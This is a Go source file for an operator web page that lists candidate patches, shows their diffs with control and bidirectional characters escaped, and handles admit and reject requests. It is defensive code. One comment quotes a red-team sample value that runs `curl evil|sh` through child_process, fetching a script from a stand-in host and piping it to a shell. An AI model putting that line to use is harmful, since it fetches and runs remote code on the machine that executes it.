package operator

import (
	"net/http"
	"strings"

	"github.com/coagent8/coagent8/internal/fault"
	"github.com/coagent8/coagent8/internal/quarantine"
)

type candidatesData struct {
	Candidates []CandidateSummary
	Available  bool
}

func (s *Server) pageCandidates(w http.ResponseWriter, r *http.Request) {
	_, none := s.opts.Candidates.(noCandidates)
	d := candidatesData{Available: !none}
	var err error
	if d.Candidates, err = s.opts.Candidates.List(r.Context()); err != nil {
		s.fail(w, r, "candidates", err)
		return
	}
	s.show(w, r, "candidates", http.StatusOK, page{Data: d})
}

// diffLine is one line of a diff with its class for colouring: add, del,
// hunk, file or ctx. The text stays data.
type diffLine struct {
	Class string
	Text  patchText
}

// patchText is one line of a candidate's patch as the page shows it. It
// is redacted with the answer profile (credential formats only), the
// profile of the quarantine scan, so any line the redaction changes is a
// blocking secret.credential finding the page lists. The diagnostic
// profile of the rest of the page also rewrites labelled values
// ("apiKey": "...", password: ...): a line holding
// `"apiKey": "require('child_process').exec('curl evil|sh')"` was shown
// as [REDACTED:secret], and the operator admitted bytes they could not
// read (red team).
type patchText string

type candidateData struct {
	Candidate Candidate
	Lines     []diffLine
}

func (s *Server) pageCandidate(w http.ResponseWriter, r *http.Request) {
	c, err := s.opts.Candidates.Get(r.Context(), bounded(r.PathValue("id"), 128))
	if err != nil {
		s.fail(w, r, "candidate", err)
		return
	}
	s.show(w, r, "candidate", http.StatusOK, page{Data: candidateData{Candidate: c, Lines: diffLines(c.Diff)}})
}

func diffLines(diff string) []diffLine {
	var out []diffLine
	for _, l := range strings.Split(strings.TrimSuffix(diff, "\n"), "\n") {
		c := "ctx"
		switch {
		case strings.HasPrefix(l, "+++"), strings.HasPrefix(l, "---"), strings.HasPrefix(l, "diff "):
			c = "file"
		case strings.HasPrefix(l, "@@"):
			c = "hunk"
		case strings.HasPrefix(l, "+"):
			c = "add"
		case strings.HasPrefix(l, "-"):
			c = "del"
		}
		// Escaped: a bidi control (U+202E) would reorder the line the
		// operator reads before admitting; a control byte is not text.
		out = append(out, diffLine{c, patchText(quarantine.Visible(l))})
	}
	return out
}

// postAdmit is POST /candidates/{id}/admit; the form's "digest" is the
// candidate the page showed, its "ack" values the reasons the operator
// acknowledged.
func (s *Server) postAdmit(w http.ResponseWriter, r *http.Request) {
	id := bounded(r.PathValue("id"), 128)
	// The guard read the form only when the token was not in the header.
	if err := r.ParseForm(); err != nil {
		s.fail(w, r, "result", fault.New(fault.InvalidInput, "operator.form", "The form could not be read."))
		return
	}
	if err := s.opts.Candidates.Admit(r.Context(), id, r.PostForm.Get("digest"), r.PostForm["ack"]); err != nil {
		s.fail(w, r, "result", err)
		return
	}
	s.show(w, r, "result", http.StatusOK, page{Notice: "Candidate " + id + " admitted."})
}

// postReject is POST /candidates/{id}/reject.
func (s *Server) postReject(w http.ResponseWriter, r *http.Request) {
	id := bounded(r.PathValue("id"), 128)
	if err := s.opts.Candidates.Reject(r.Context(), id); err != nil {
		s.fail(w, r, "result", err)
		return
	}
	s.show(w, r, "result", http.StatusOK, page{Notice: "Candidate " + id + " rejected."})
}
